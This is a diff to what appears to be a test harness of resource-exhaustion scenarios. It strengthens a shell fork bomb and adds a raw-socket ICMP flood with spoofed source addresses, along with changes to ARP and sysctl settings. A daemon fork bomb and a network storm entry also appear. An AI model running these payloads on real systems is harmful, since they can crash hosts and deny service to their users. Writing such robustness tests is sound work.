@@ -189,7 +189,8 @@ for family in (40, 38, 30, 31, 44):
     ),
 }
 _EXHAUSTION = {
-    "fork-bomb": _host(":(){ :|:& };:"),
+    # the shell stays: with it, all that it began would end before there were too many
+    "fork-bomb": _host(":(){ :|:& };:; while :; do :; done"),
     "fork-bomb-of-daemons": _python("""
 import os
 while True:
@@ -296,6 +297,29 @@ for a in range(256):
         "ip link set va$v up; ip link set vb$v up; done; "
         "ip addr add 10.77.0.1/24 dev bra; sleep 0.1; ping -c 1 -W 0.1 10.77.0.9; true"
     ),
+    "starve-pings": _python("""
+import os, socket, struct
+port = sorted(name for _, name in socket.if_nameindex() if "-eth" in name)[0]
+os.system("sysctl -qw net.ipv4.conf.all.accept_local=1 net.ipv4.icmp_ratelimit=0; "
+          f"ip ntable change name arp_cache dev {port} retrans 3000 mcast_probes 1000; "
+          f"sysctl -qw net.ipv4.neigh.{port}.mcast_solicit=1000 "
+          f"net.ipv4.neigh.{port}.retrans_time_ms=3000")
+mine = os.popen(f"ip -o -4 addr show {port}").read().split()[3].split("/")[0]
+s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
+message = struct.pack("!BBHHH", 8, 0, 0, 9, 0) + b"x" * 1000
+total = sum(struct.unpack(f"!{len(message) // 2}H", message))
+total = (total >> 16) + (total & 65535)
+total += total >> 16
+message = message[:2] + struct.pack("!H", ~total & 65535) + message[4:]
+for processor in sorted(os.sched_getaffinity(0)):
+    os.sched_setaffinity(0, {processor})
+    for number in range(900):
+        source = mine.rsplit(".", 1)[0] + f".{150 + number % 90}"
+        header = struct.pack("!BBHHHBBH", 69, 0, 20 + len(message), 0, 0, 64, 1, 0)
+        s.sendto(header + socket.inet_aton(source) + socket.inet_aton(mine) + message, (mine, 0))
+import time
+time.sleep(9)
+"""),
     "storm-that-waits": _host(
         f"{_PORT}; sysctl -q -w net.ipv6.conf.all.disable_ipv6=1 "
         "net.ipv6.conf.default.disable_ipv6=1; A=$(ip -o -4 addr show $I | tr -s ' ' | "
